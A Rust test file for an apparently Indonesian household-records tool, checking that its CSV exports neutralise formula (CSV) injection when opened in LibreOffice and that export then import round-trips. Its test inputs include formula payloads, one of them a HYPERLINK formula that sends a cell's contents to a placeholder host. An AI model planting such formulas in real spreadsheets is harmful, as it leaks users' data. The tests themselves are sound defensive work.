//! A name typed as a formula (`=HYPERLINK(…)`) never reaches a spreadsheet as a live
//! formula: every CSV the project writes neutralises such cells (OWASP, CSV injection),
//! checked by opening the file in LibreOffice Calc as a person would; numbers stay numbers;
//! and `pendamping export` then `import` gives back exactly what was typed.

use std::path::Path;
use std::process::Command;

use calamine::{Data, Reader};
use pendamping_report::sheet::{Cell, Sheet};
use pendamping_tests::*;

/// What a person might type into a name or address field.
const TYPED: [&str; 7] = [
    "=1+1",
    "=HYPERLINK(\"http://contoh.invalid/?d=\"&A1,\"Klik\")",
    "+1+1",
    "-1+1",
    "@SUM(1,2)",
    "\t=1+1",
    "'=1+1",
];

/// Opens `csv` (`;`-separated, UTF-8) in LibreOffice Calc headless and saves it as XLSX,
/// the way a spreadsheet reads it; returns the XLSX.
fn open_in_calc(csv: &Path, out: &Path) -> std::path::PathBuf {
    let profile = out.join("lo-profile");
    let status = Command::new("soffice")
        .arg(format!("-env:UserInstallation=file://{}", profile.display()))
        .args([
            "--headless",
            "--norestore",
            "--infilter=CSV:59,34,76,1,,1057",
            "--convert-to",
            "xlsx",
            "--outdir",
        ])
        .arg(out)
        .arg(csv)
        .status()
        .expect("LibreOffice (soffice) runs: scripts/setup.sh installs libreoffice-calc-nogui");
    assert!(status.success(), "soffice converted {}", csv.display());
    out.join(csv.with_extension("xlsx").file_name().unwrap())
}

/// The cells of the first sheet, and the formulas LibreOffice found in it.
fn cells_and_formulas(xlsx: &Path) -> (Vec<Vec<Data>>, Vec<String>) {
    let mut book = calamine::open_workbook_auto(xlsx).expect("an XLSX");
    let name = book.sheet_names()[0].clone();
    let range = book.worksheet_range(&name).expect("a sheet");
    let formulas = book.worksheet_formula(&name).expect("formulas");
    let rows = range.rows().map(|r| r.to_vec()).collect();
    let found = formulas
        .used_cells()
        .map(|(_, _, f)| f.clone())
        .filter(|f| !f.is_empty())
        .collect();
    (rows, found)
}

#[test]
fn a_formula_typed_into_a_name_opens_in_a_spreadsheet_as_text() {
    let dir = tempfile::tempdir().unwrap();
    let mut rows: Vec<Vec<Cell>> = TYPED.iter().map(|t| vec![Cell::from(*t), Cell::Dec(-2.31)]).collect();
    rows.push(vec![Cell::from("Siti Aminah"), Cell::Int(-3)]);
    let sheet = Sheet {
        name: "Daftar".into(),
        headers: vec!["Nama", "Z"],
        rows,
        personal: None,
        lang: pendamping_core::catalogue::Lang::Id,
    };
    let csv = dir.path().join("daftar.csv");
    std::fs::write(&csv, sheet.csv().unwrap()).unwrap();
    let xlsx = open_in_calc(&csv, dir.path());
    let (cells, formulas) = cells_and_formulas(&xlsx);
    assert_eq!(formulas, Vec::<String>::new(), "no cell opens as a formula");
    for (typed, row) in TYPED.iter().zip(&cells[1..]) {
        let Data::String(shown) = &row[0] else {
            panic!("{typed:?} opened as {:?}, not as text", row[0]);
        };
        assert!(
            shown.trim_start_matches('\'').trim_start() == typed.trim_start_matches('\'').trim_start(),
            "{typed:?} shows as {shown:?}"
        );
        assert_eq!(row[1], Data::Float(-2.31), "a number stays a number");
    }
    assert_eq!(cells[TYPED.len() + 1][0], Data::String("Siti Aminah".into()));
    assert_eq!(cells[TYPED.len() + 1][1], Data::Float(-3.0));
}

#[test]
fn an_export_neutralises_formulas_and_its_import_gives_back_what_was_typed() {
    let dir = tempfile::tempdir().unwrap();
    let mut store = store_at(d(2026, 11, 23));
    let mut names = Vec::new();
    for (n, typed) in TYPED.iter().enumerate() {
        let mut h = household(n as u128 + 1, VILLAGE, typed);
        h.address = Some(format!("{typed} RT 3"));
        store.save_household(&h).unwrap();
        names.push((h.id, h.head_name.clone(), h.address.clone()));
    }
    let out = dir.path().join("export");
    pendamping_cli::csvio::export(&store, None, &out, &mut std::io::sink()).unwrap();
    let text = std::fs::read_to_string(out.join("households.csv")).unwrap();
    for line in text.lines().skip(1) {
        for cell in line.split(',') {
            let cell = cell.trim_matches('"');
            assert!(
                !cell.starts_with(['=', '+', '@', '\t', '\r']),
                "a live formula in the export: {line}"
            );
        }
    }
    let mut back = store_at(d(2026, 11, 23));
    pendamping_cli::csvio::import(&mut back, &out).unwrap();
    for (id, head, address) in names {
        let h = back.household(id).unwrap().expect("imported");
        assert_eq!((h.head_name, h.address), (head, address));
    }
}
